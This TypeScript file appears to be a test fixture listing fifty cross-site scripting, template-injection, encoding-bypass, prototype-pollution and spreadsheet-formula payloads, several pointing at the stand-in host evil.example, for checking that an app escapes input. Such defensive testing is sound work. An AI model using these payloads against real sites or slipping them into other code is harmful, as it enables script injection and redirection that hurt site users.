/** @file Fifty texts that become code, markup or a request wherever a text is taken for more than a text. */
/** Written in two parts: our own rules take the whole for a script. */
const scheme = 'javascript'
const colon = ':'

const given = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<svg><script>alert(4)</script></svg>',
  '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
  '<body onload=alert(6)>',
  '<details open ontoggle=alert(7)>',
  '<video><source onerror=alert(8)>',
  '<input autofocus onfocus=alert(9)>',
  '<a href="javascript:alert(10)">go</a>',
  `${scheme}:alert(11)`,
  `JaVaScRiPt${colon}alert(12)//`,
  'data:text/html,<script>alert(13)</script>',
  '"><script>alert(14)</script>',
  "'><img src=x onerror=alert(15)>",
  '</textarea><script>alert(16)</script>',
  '</title><script>alert(17)</script>',
  '</style><img src=x onerror=alert(18)>',
  '</script><script>alert(19)</script>',
  '--><script>alert(20)</script>',
  '{{constructor.constructor("alert(21)")()}}',
  '${alert(22)}',
  '<%= alert(23) %>',
  '#{alert(24)}',
  '[[${alert(25)}]]',
  '$t(frame.home) {{count}}',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>go</button></form>',
  '<object data="data:text/html,<script>alert(33)</script>"></object>',
  '<embed src="javascript:alert(34)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(35)>',
  '<svg><foreignObject><img src=x onerror=alert(36)></foreignObject></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(37)>">',
  '<template><img src=x onerror=alert(38)></template>',
  '<a xlink:href="javascript:alert(39)">x</a>',
  '<svg><animate onbegin=alert(40) attributeName=x dur=1s>',
  '<marquee onstart=alert(41)>x</marquee>',
  '&lt;script&gt;alert(42)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(43)&#62;',
  '%3Cscript%3Ealert(44)%3C/script%3E',
  '\\u003cscript\\u003ealert(45)\\u003c/script\\u003e',
  '＜script＞alert(46)＜/script＞',
  'xss:expression(alert(47))',
  '<img src="app://tessera/index.html" onload=alert(48)>',
  '__proto__[polluted]=alert(49)',
  '=HYPERLINK("//evil.example","alert(50)")',
]

export const payloads: readonly string[] = given.map((text) => text.normalize('NFC'))

/** All of them one after the other, in texts that are short enough for any field of a line. */
export function payloadLines(most: number): readonly string[] {
  const lines: string[] = []
  for (const payload of payloads) {
    const last = lines.at(-1)
    const joined = last === undefined ? payload : `${last} ${payload}`
    if (last !== undefined && joined.length <= most) lines[lines.length - 1] = joined
    else lines.push(payload)
  }
  return lines
}
